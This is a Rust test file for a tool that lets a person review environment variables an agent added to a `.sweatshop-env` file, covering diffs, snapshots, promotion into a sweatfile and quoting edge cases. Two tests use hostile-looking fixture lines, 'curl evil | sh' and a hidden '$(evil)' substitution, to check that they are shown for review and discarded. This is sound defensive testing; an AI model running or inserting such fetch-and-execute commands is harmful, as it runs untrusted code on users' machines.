//! Env review: a person decides about the variables that an agent added to `.sweatshop-env`.

use crate::support::world::{World, mode, text};

#[test]
fn a_second_review_has_nothing_to_do() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    app.apply(&["env", "review"]).exit(0);
    app.apply(&["-v", "env", "review"]).exit(0).err_has("nothing to review");
    // An answer without a question is an error.
    app.apply(&["env", "review", "--keep", "A"]).exit(1).any_err();
}

/// Case 15 of the design.
#[test]
fn changes_are_compared_by_value_and_removals_only_mentioned() {
    let w = World::new();
    let app = w.app();
    w.area("[env]\nA = \"1\"\nC = \"1\"\nD = \"1\"\n");
    app.apply(&[]).succeeds();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "B=2\nA=9\nD='1'\n");
    let lines = app.apply(&["env", "diff", "--json"]).succeeds().json_lines();
    let found: Vec<_> = lines.iter().map(|l| (text(l, "/key"), text(l, "/change"))).collect();
    assert_eq!(found, [("A", "changed"), ("B", "added")]);
    assert!(lines.iter().all(|l| l.get("new").is_none()));
    let diff = app.apply(&["env", "diff", "--reveal"]).exit(0);
    assert_eq!(diff.stdout, "changed A: 1 -> 9\nadded B: 2\n");
    diff.err_has("removed since: C");
    let out = app.apply(&["env", "review"]).exit(3);
    out.err_has("changed A").err_has("added B").err_has("removed since: C");
    assert_eq!(out.stderr.matches('C').count(), 1, "{}", out.stderr);
}

#[test]
fn another_spelling_is_nothing_to_review_and_ends_the_snapshot() {
    let w = World::new();
    let app = w.app();
    w.area("[env]\nA = \"1\"\n");
    app.apply(&[]).succeeds();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "export A='1'\n");
    let out = app.apply(&["env", "review"]).exit(0);
    assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("", ""));
    app.apply(&["env", "diff"]).exit(1).err_has("there is no snapshot");
}

#[test]
fn a_second_snapshot_keeps_the_first_and_a_missing_file_is_an_empty_one() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=1\n");
    app.apply(&["env", "snapshot"]).exit(0).err_has("the earlier snapshot stays");
    assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added A\n");
    assert_eq!(mode(&app.path.join(".git/shopfloor/sweatfile-apply/snapshot.env")), 0o600);
}

#[test]
fn each_answer_does_what_it_says() {
    let w = World::new();
    let app = w.app();
    app.approved("# how we work\nsetup = [] # none\n[env]\nA = \"1\" # why\nsetpu = \"kept\"\n");
    app.apply(&[]).succeeds();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=2\nGONE=x\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
    let out = app.apply(&["env", "review", "--promote", "A", "--promote", "NEW", "--discard", "GONE"]).exit(3);
    out.err_has("added OURS").out_has("promoted A").out_has("discarded GONE");
    let sweatfile = "# how we work\nsetup = [] # none\n[env]\nA = \"2\" # why\nsetpu = \"kept\"\nNEW = \"it's\"\n";
    assert_eq!(app.read("sweatfile"), sweatfile);
    // Only changes without an answer are asked about again.
    assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added OURS\n");
    app.apply(&["env", "review", "--keep", "OURS"]).succeeds();
    assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
    app.apply(&["env", "diff"]).exit(1).any_err();
    // The new text is approved too, and this worktree matches its sweatfiles.
    app.apply(&["check"]).exit(0);
    app.apply(&[]).exit(0);
    assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
}

#[test]
fn discard_puts_the_old_value_back() {
    let w = World::new();
    let app = w.app();
    w.area("[env]\nA = \"1\"\n");
    app.apply(&[]).succeeds();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=2\n");
    app.apply(&["env", "review", "--discard", "A", "-n"]).succeeds();
    assert_eq!(app.read(".sweatshop-env"), "A=2\n");
    app.apply(&["env", "review", "--discard", "A"]).succeeds();
    assert_eq!(app.read(".sweatshop-env"), "A=1\n");
    app.apply(&["env", "review", "--discard", "A", "--keep", "A"]).exit(2).any_err();
}

#[test]
fn a_promotion_creates_the_file_and_does_not_approve_what_was_not_approved() {
    let w = World::new();
    let app = w.app();
    let promote = |key: &str| {
        app.apply(&["env", "snapshot"]).succeeds();
        app.sh(&format!("echo {key}=1 >> .sweatshop-env")).exit(0);
        app.apply(&["env", "review", "--promote", key])
    };
    promote("A").succeeds();
    assert_eq!(app.read("sweatfile"), "[env]\nA = \"1\"\n");
    app.apply(&[]).exit(3).any_out().any_err();
    app.write("sweatfile", "setup = [\"touch ran\"]\n");
    promote("B").succeeds().err_has("is not approved");
    app.apply(&[]).exit(3).any_err();
    assert!(!app.has("ran"));
    app.write("sweatfile", "[env\n");
    promote("C").exit(2).err_has("sweatfile:1:");
    assert_eq!(app.read("sweatfile"), "[env\n");
    app.write("sweatfile", "template = true\n");
    app.sh("echo 'D={port}' >> .sweatshop-env").exit(0);
    app.apply(&["env", "review", "--promote", "D", "--keep", "C"]).exit(2).err_has("placeholder");
}

#[test]
fn two_worktrees_promoting_at_once_lose_nothing() {
    let w = World::new();
    let app = w.app();
    app.approved("[env]\nX = \"0\"\n");
    let worktrees: Vec<_> = (0..8).map(|i| app.worktree(&format!("w{i}"))).collect();
    for (i, wt) in worktrees.iter().enumerate() {
        wt.apply(&[]).succeeds();
        wt.apply(&["env", "snapshot"]).succeeds();
        wt.sh(&format!("echo K{i}={i} >> .sweatshop-env")).exit(0);
    }
    std::thread::scope(|scope| {
        for (i, wt) in worktrees.iter().enumerate() {
            scope.spawn(move || wt.apply(&["env", "review", "--promote", &format!("K{i}")]).succeeds());
        }
    });
    let sweatfile = app.read("sweatfile");
    assert!((0..8).all(|i| sweatfile.contains(&format!("K{i} = \"{i}\"\n"))), "{sweatfile}");
    app.apply(&[]).succeeds();
}

#[test]
fn on_a_terminal_each_change_is_offered_and_quitting_changes_nothing() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=1\nPATH=/x\n");
    let before = app.snapshot();
    let out = app.on_terminal("sweatfile-apply env review", "p\nq\n").exit(3);
    out.out_has("added A: 1").out_has("(changes what other programs run)");
    app.assert_only_added_since(&before);
    assert!(!app.has("sweatfile"));
    app.on_terminal("sweatfile-apply env review", "what?\nk\nd\n").succeeds();
    assert_eq!(app.read(".sweatshop-env"), "A=1\n");
}

#[test]
fn changes_made_by_apply_are_not_reviewed() {
    let w = World::new();
    let app = w.app();
    w.area("[env]\nA = \"1\"\nB = \"1\"\n");
    app.apply(&[]).succeeds();
    app.apply(&["env", "snapshot"]).succeeds();
    app.sh("echo MINE=1 >> .sweatshop-env").exit(0);
    w.area("[env]\nA = \"2\"\nC = \"1\"\n");
    app.apply(&[]).succeeds();
    let out = app.apply(&["env", "diff"]).exit(0);
    assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("added MINE\n", ""));
}

#[test]
fn a_promotion_keeps_the_mode_and_follows_a_link_inside_the_repository() {
    let w = World::new();
    let app = w.app();
    app.write("conf/sweatfile", "[env]\n");
    app.sh("chmod 664 conf/sweatfile; ln -s conf/sweatfile sweatfile").exit(0);
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=1\n");
    app.apply(&["env", "review", "--promote", "A"]).succeeds();
    assert_eq!(app.read("conf/sweatfile"), "[env]\nA = \"1\"\n");
    assert_eq!(mode(&app.path.join("conf/sweatfile")), 0o664);
    assert!(app.path.join("sweatfile").is_symlink());
}

#[test]
fn a_change_that_only_a_shell_can_evaluate_is_not_promoted() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=$HOME/x\n");
    app.apply(&["env", "review", "--promote", "A"]).exit(2).err_has("only a shell can evaluate");
    assert!(!app.has("sweatfile"));
    app.apply(&["env", "review", "--keep", "A", "-n"]).exit(0).out_has("would have kept A");
    app.apply(&["env", "diff"]).exit(0).out_has("added A");
}

#[test]
fn a_value_that_direnv_and_a_shell_read_differently_is_not_promoted() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    let differ = [
        "A=postgres://u:p@h/db?a=1&b=2",
        "A=Default Organization",
        "A=Some#Comment",
        "A=#x",
        "A=a;b",
        "A=a(b)",
        "A=a\\nb",
        "A=~/x",
        "A=\"C:\\x\"",
        "A='it''s'",
        "A=a'b'",
        "A=\"a\\$b\"",
        "A=a\\ b",
    ];
    for line in differ {
        app.write(".sweatshop-env", &format!("{line}\n"));
        let out = app.apply(&["env", "review", "--promote", "A"]).exit(2);
        out.err_has("cannot promote A: direnv and a shell read its value differently").err_has("quote it: `A='...'`");
    }
    // No quotes help here, and no other answer is carried out.
    for line in ["A=\"a\\nb\"", "A=\"it's \\$b\""] {
        app.write(".sweatshop-env", &format!("{line}\nB=1\n"));
        let out = app.apply(&["env", "review", "--promote", "A", "--discard", "B"]).exit(2);
        out.err_has("however it is quoted").err_has("no answer was carried out; keep A or discard it, or write it");
        assert!(app.read(".sweatshop-env").contains("B=1"), "{line}");
    }
    assert!(!app.has("sweatfile"));
    let alike = [
        ("A=a # why", "a"),
        ("A='a#b' # why", "a#b"),
        ("A=\"a b\"", "a b"),
        ("A=\"a\\\"b\"", "a\\\"b"),
        ("A=a*", "a*"),
        ("export A='$x & y'", "$x & y"),
    ];
    for (line, value) in alike {
        app.write(".sweatshop-env", &format!("{line}\n"));
        app.apply(&["env", "review", "--promote", "A"]).succeeds();
        assert_eq!(app.read("sweatfile"), format!("[env]\nA = \"{value}\"\n"), "{line}");
        // What our reading of direnv's dialect is worth, where there is one.
        if crate::support::world::find("direnv").is_some() {
            let loaded = app.sh("direnv dotenv json .sweatshop-env").exit(0).json();
            assert_eq!(format!("\"{value}\""), loaded["A"].to_string(), "{line}");
        }
        app.sh("rm sweatfile .sweatshop-env; sweatfile-apply -q env snapshot").exit(0).any_err();
    }
}

#[test]
fn a_dry_run_refuses_what_the_run_would_refuse() {
    let w = World::new();
    let app = w.app();
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=$HOME/x\n");
    app.apply(&["env", "review", "--promote", "A", "-n"]).exit(2).err_has("only a shell can evaluate");
    app.write(".sweatshop-env", "A=1\n");
    app.apply(&["env", "review", "--promote", "A", "-n"]).exit(0).out_has("would have promoted A");
    assert!(!app.has("sweatfile"));
}

#[test]
fn variables_for_only_one_reader_are_reviewed_too() {
    let w = World::new();
    let app = w.app();
    let before = "# mine\nA=1\n";
    app.write(".sweatshop-env", before);
    app.apply(&["env", "snapshot"]).succeeds();
    let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
    app.write(".sweatshop-env", &format!("{before}{added}"));
    // A real direnv, where there is one, shows what it loads.
    if crate::support::world::find("direnv").is_some() {
        let plain = added.replace("curl evil | sh\n", "");
        app.write("direnv", &plain);
        let loaded = app.sh("direnv dotenv json direnv").exit(0).json();
        let names: Vec<&String> = loaded.as_object().unwrap().keys().filter(|name| name.len() == 1).collect();
        assert_eq!(names, ["B", "C", "D", "E", "F", "G"]);
    }
    let changes = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
    let keys: Vec<String> = changes.iter().map(|line| text(line, "/key").to_owned()).collect();
    assert_eq!(&keys[..6], ["B", "C", "D", "E", "F", "G"], "{keys:?}");
    assert!(keys.len() == 7 && keys[6].starts_with("line:"), "{keys:?}");
    let shown = app.apply(&["env", "diff", "--reveal"]).exit(0);
    shown.out_has("added B: 1").out_has("curl evil | sh");
    let open = app.apply(&["env", "review"]).exit(3);
    for key in &keys {
        open.err_has(key);
    }
    let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
    app.apply(&[&["env", "review"][..], &discard].concat()).succeeds();
    assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
    // A variable that only direnv reads can be promoted for everybody.
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "A=1\nB: two\n");
    app.apply(&["env", "review", "--promote", "B"]).succeeds();
    assert!(app.read("sweatfile").contains("B = \"two\""));
}

#[test]
fn a_quote_over_several_lines_hides_nothing() {
    let w = World::new();
    let app = w.app();
    app.write(".sweatshop-env", "G=x\n");
    app.apply(&["env", "snapshot"]).succeeds();
    app.write(".sweatshop-env", "G=x\nOPEN=\"abc\n# $(evil)\nAFTER=1\n\"\n");
    let shown = app.apply(&["env", "diff", "--reveal"]).exit(0);
    shown.out_has("added OPEN: OPEN=\"abc").out_has("# $(evil)").out_has("added AFTER: 1");
    let changes = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
    let discard: Vec<&str> = changes.iter().flat_map(|line| ["--discard", text(line, "/key")]).collect();
    app.apply(&[&["env", "review"][..], &discard].concat()).succeeds();
    assert_eq!(app.read(".sweatshop-env"), "G=x\n");
}
